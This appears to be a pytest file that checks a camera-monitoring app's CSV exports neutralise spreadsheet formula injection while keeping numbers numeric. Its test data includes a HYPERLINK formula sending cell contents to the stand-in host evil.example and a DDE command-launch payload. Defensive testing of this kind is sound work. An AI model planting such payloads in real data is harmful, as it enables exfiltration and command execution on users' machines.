"""CSV export: text that a spreadsheet would run as a formula is exported as text (OWASP "CSV Injection"),
numbers stay numbers; the real SQLite store, the real export, read back with the csv module."""

from __future__ import annotations

import csv
import json

from app.store import Store
from app.store.db import sqlite_url
from app.store.export import export_history
from app.store.records import AlertRecord, HealthSampleRecord
from app.textsafe import csv_cell

T0 = 1_700_000_000.0
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Gate")'


def test_csv_cell_prefixes_formula_starts_and_leaves_numbers_alone():
    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "\x00x"):
        assert csv_cell(text) == "'" + text
    for text in ("Gate", "", "1-2", " =1", "'=1"):
        assert csv_cell(text) == text
    assert csv_cell(-3.5) == -3.5 and csv_cell(-2) == -2 and csv_cell(None) is None and csv_cell(True) is True


def test_exported_csv_never_starts_a_text_cell_with_a_formula_and_keeps_numeric_columns(tmp_path):
    store = Store(sqlite_url(tmp_path / "history.sqlite3"), periodic_maintenance=False)
    store.start()
    try:
        assert store.wait_ready(60), store.status().message
        cam = "=cmd|' /C calc'!A0"  # a camera id as hostile as a config allows
        store.record_state_change(cam, T0, "IDLE", "OFFLINE", "-2+3 @device said so")
        for i in range(3):
            store.submit(HealthSampleRecord(cam, T0 + 60 + i, "LIVE", 25, 1e6, 30))
        store.record_alert(AlertRecord("a1", "CameraOffline", cam, "CRITICAL", "resolved", f"{FORMULA} is offline",
                                       T0, T0 + 60, resolved_at=T0 + 60, resolved_by="+op",
                                       resolve_note="@here"))  # fmt: skip
        assert store.flush(30)
        res = store.query(export_history, tmp_path / "out.csv", T0 - 10, T0 + 120, None, now=T0 + 120).result(30)
        store.query(export_history, tmp_path / "out.json", T0 - 10, T0 + 120, None, now=T0 + 120).result(30)
    finally:
        store.stop()
    assert (res.events, res.samples, res.alerts) == (1, 3, 1)
    tables = {}
    for name in ("events", "samples", "alerts", "availability"):
        with open(tmp_path / f"out_{name}.csv", newline="", encoding="utf-8") as f:
            tables[name] = list(csv.reader(f))
    for name, rows in tables.items():
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")), (name, cell)
    events = list(csv.DictReader((tmp_path / "out_events.csv").read_text(encoding="utf-8").splitlines()))
    assert events[0]["camera_id"] == "'" + cam and events[0]["reason"] == "'-2+3 @device said so"
    assert float(events[0]["unix"]) == T0
    (alert,) = csv.DictReader((tmp_path / "out_alerts.csv").read_text(encoding="utf-8").splitlines())
    assert alert["summary"] == f"'{FORMULA} is offline"
    assert alert["resolved_by"] == "'+op" and alert["resolve_note"] == "'@here"
    samples = list(csv.DictReader((tmp_path / "out_samples.csv").read_text(encoding="utf-8").splitlines()))
    assert [float(s["fps"]) for s in samples] == [25.0] * 3  # numeric columns: plain numbers, no quote
    # JSON is data for programs, not a spreadsheet: unchanged
    doc = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert doc["events"][0]["camera_id"] == cam and doc["alerts"][0]["summary"] == f"{FORMULA} is offline"


def test_alarm_history_csv_writes_every_hostile_text_as_text_and_keeps_the_unix_time_a_number(tmp_path):
    """The Alarm history window's Export CSV (app.alerts.history): camera name, group, summary, notes and
    operator names come from devices and people; none may reach a spreadsheet as a formula."""
    from app.alerts.history import AlarmFilter, filter_alarms, write_alarms_csv
    from app.store import repository

    store = Store(sqlite_url(tmp_path / "history.sqlite3"), periodic_maintenance=False)
    store.start()
    try:
        assert store.wait_ready(60), store.status().message
        store.record_alert(AlertRecord("a1", "CameraOffline", "gate", "CRITICAL", "resolved", f"{FORMULA} is offline",
                                       T0, T0 + 60, acknowledged_at=T0 + 5, acknowledged_by="@dewi",
                                       ack_note="-1+1 sent", resolved_at=T0 + 60, resolved_by="+op",
                                       resolve_note="=1+1", labels=(("group", "\tDepot"), ("name", FORMULA)),
                                       shelved_by="\rbudi", shelve_note="@here"))  # fmt: skip
        assert store.flush(30)
        rows = store.query(repository.alerts, T0 - 10, T0 + 120).result(30)
    finally:
        store.stop()
    out = tmp_path / "alarms.csv"
    assert write_alarms_csv(out, filter_alarms(rows, AlarmFilter())) == 1
    with open(out, newline="", encoding="utf-8") as f:
        header, *cells = list(csv.reader(f))
    assert len(cells) == 1
    for name, cell in zip(header, cells[0], strict=True):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")), (name, cell)
    with open(out, newline="", encoding="utf-8") as f:
        (row,) = csv.DictReader(f)
    assert row["camera"] == "'" + FORMULA and row["group"] == "'\tDepot"
    assert row["summary"] == f"'{FORMULA} is offline" and row["close_note"] == "'=1+1"
    assert (row["acknowledged_by"], row["ack_note"]) == ("'@dewi", "'-1+1 sent")
    assert (row["closed_by"], row["shelved_by"], row["shelve_note"]) == ("'+op", "'\rbudi", "'@here")
    assert float(row["raised_unix"]) == T0 and row["raised"].startswith("2023-11-14T")  # numbers stay numbers
